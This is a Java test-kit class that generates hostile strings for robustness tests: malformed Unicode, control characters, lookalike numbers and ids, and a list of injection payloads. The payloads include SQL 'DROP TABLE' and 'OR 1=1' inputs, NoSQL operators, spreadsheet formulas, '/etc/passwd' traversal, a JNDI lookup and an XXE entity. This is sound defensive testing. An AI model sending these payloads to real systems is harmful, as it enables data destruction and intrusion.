package io.github.sparkpysocial.testkit.contract;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Texts and ids that break what is not made with care. The same ones each time; a few are not
 * well-formed, as Java's strings need not be.
 */
public final class HostileTexts {
  private HostileTexts() {}

  /** Returns texts of every kind, none of them long. */
  public static List<String> all() {
    List<String> texts = new ArrayList<>(SampleRecords.hostileTexts());
    texts.removeIf(text -> text.length() > 10_000);
    texts.addAll(scripts());
    texts.addAll(controls());
    texts.addAll(injections());
    texts.addAll(lookalikes());
    Random random = new Random(42);
    for (int i = 0; i < 20; i++) {
      texts.add(random(random, 200));
    }
    return texts.stream().distinct().toList();
  }

  private static List<String> scripts() {
    List<String> texts = new ArrayList<>();
    texts.add(
        "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67 \uD83D\uDC4D\uD83C\uDFFD \u2764\uFE0F"
            + " 1\uFE0F\u20E3");
    texts.add(
        "\uD83C\uDDF5\uD83C\uDDF9\uD83C\uDDF5"
            + " \uD83C\uDFF4\uDB40\uDC67\uDB40\uDC62\uDB40\uDC73\uDB40\uDC63\uDB40\uDC74\uDB40\uDC7F");
    texts.add("\u202Aa\u202Bb\u202Cc\u202Dd\u202Ee\u2066f\u2067g\u2068h\u2069\u200E\u200F\u061C");
    texts.add(
        "\u0627\u0644\u0633\u0644\u0627\u0645 \u05E9\u05DC\u05D5\u05DD #\u05EA\u05D2"
            + " \u0623\u0647\u0644\u0627");
    texts.add(
        "\u0E19\u0E49\u0E33 \u0915\u094D\u0937\u093F \u1100\u1161\u11A8 \uAC01 \u304C\u304B\u3099");
    texts.add("I\u0130i\u0131 \u00DF\u1E9E\u017F \u03A3\u03C3\u03C2 \uFB03 \u01C5"); // letter case
    texts.add(
        "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034D");
    for (int plane = 0; plane <= 16; plane++) {
      StringBuilder text = new StringBuilder("plane " + plane + ' ');
      for (int low : new int[] {0x0041, 0x2FFF, 0xD7FF, 0xE000, 0xFDD0, 0xFFFD, 0xFFFE, 0xFFFF}) {
        text.appendCodePoint((plane << 16) + low);
      }
      texts.add(text.toString());
    }
    texts.add("\uD83D"); // half a character
    texts.add("\uDC00 low first \uD83D");
    texts.add("\uD83D\uD83D\uDE00\uDE00");
    return texts;
  }

  private static List<String> controls() {
    List<String> texts = new ArrayList<>();
    for (int control = 0; control < 0xA0; control++) {
      if (control < 0x20 || control >= 0x7F) {
        texts.add("a" + (char) control + "b");
      }
    }
    texts.add("\0");
    texts.add("\0\0begins and ends\0");
    for (String separator :
        List.of(
            "\n", "\r", "\r\n", "\n\r", "\u000B", "\f", "\u001C", "\u0085", "\u2028", "\u2029")) {
      texts.add(separator);
      texts.add(separator + "first" + separator + separator + "last" + separator);
    }
    texts.add("\uFEFF");
    texts.add("\uFEFFbegins with a mark");
    texts.add("\uFFF9\uFFFA\uFFFB\uFFFC");
    texts.add("\u00A0\u2007\u202F\u3000\u180E\u200B");
    texts.add("  spaces  ");
    texts.add("\ttabs\t");
    return texts;
  }

  private static List<String> injections() {
    return List.of(
        "Robert'); DROP TABLE posts;--",
        "' OR '1'='1",
        "\" OR \"\"=\"",
        "\\'; DELETE FROM records; -- \\",
        "`; DROP TABLE x; `",
        "$$; SELECT pg_sleep(9); $$",
        "$1 ? :name %s %n {0} ${x} #{x} @@version",
        "E'\\\\x00'",
        "/* comment */ -- comment",
        "{\"$gt\":\"\"}",
        "{ $where: 'sleep(9000)' }",
        "$ne",
        "a.b.$[].c",
        "\u0000$set",
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "=HYPERLINK(\"http://example.org\")",
        "|calc",
        "%0A%00",
        "../../etc/passwd",
        "..\\..\\windows",
        "/dev/null",
        "file:///etc/passwd",
        "C:\\con",
        "~",
        "*",
        "${jndi:ldap://example.org/a}",
        "<![CDATA[x]]>",
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
        "\\x",
        "\\",
        "\\\\",
        "\\\"",
        "'",
        "''",
        "`",
        ",",
        ";",
        "\",\"",
        "\"a\",b\n\"c\"",
        "[]",
        "{}",
        "[\"a\"]",
        "#",
        "# not a comment");
  }

  /** Texts that look like something else. */
  private static List<String> lookalikes() {
    return List.of(
        "1234567890123456789",
        "9223372036854775808",
        "-9223372036854775809",
        "18446744073709551616",
        "007",
        "0x10",
        "1_000",
        "1,5",
        "1.10",
        "1.",
        ".5",
        "1e5",
        "1E400",
        "-0",
        "Infinity",
        "-Infinity",
        "NaN",
        "true",
        "FALSE",
        "yes",
        "NULL",
        "\\N",
        "None",
        "undefined",
        "2026-11-01",
        "2026-11-01T12:00:00Z",
        "12:30",
        "MARCH1",
        "1/2",
        "SEPT2");
  }

  /** Returns ids to be told apart, and from what they look like. */
  public static List<String> ids() {
    List<String> ids = new ArrayList<>(lookalikes());
    ids.addAll(
        List.of(
            "1234567890123456788",
            "9007199254740993",
            "9007199254740992",
            "00",
            "0",
            "a",
            "A",
            "a ",
            " a",
            "a\u00A0",
            "\u00E1",
            "a\u0301",
            "\u00DF",
            "ss",
            "\u0130",
            "i\u0307",
            "\uFF41",
            "a\nb",
            "a\r\nb",
            "a\tb",
            "a\u0000b",
            "a\uD83D",
            "\uD83D\uDE00",
            "\uD83D\uDE01",
            "\uFFFE",
            "a/b",
            "a.b",
            "a::b",
            "$a",
            "post/1",
            "x/post/1",
            "../../x",
            "..",
            "'",
            "\"",
            "\\",
            "%00",
            "%",
            "_",
            "*",
            ";",
            ","));
    return ids.stream().distinct().toList();
  }

  /** Returns characters of all planes, well-formed, NUL among them. */
  public static String random(Random random, int codePoints) {
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < codePoints; i++) {
      int codePoint;
      do {
        codePoint =
            switch (random.nextInt(4)) {
              case 0 -> random.nextInt(0x80);
              case 1 -> random.nextInt(0x800);
              case 2 -> random.nextInt(0x10000);
              default -> random.nextInt(Character.MAX_CODE_POINT + 1);
            };
      } while (codePoint >= Character.MIN_SURROGATE && codePoint <= Character.MAX_SURROGATE);
      text.appendCodePoint(codePoint);
    }
    return text.toString();
  }
}
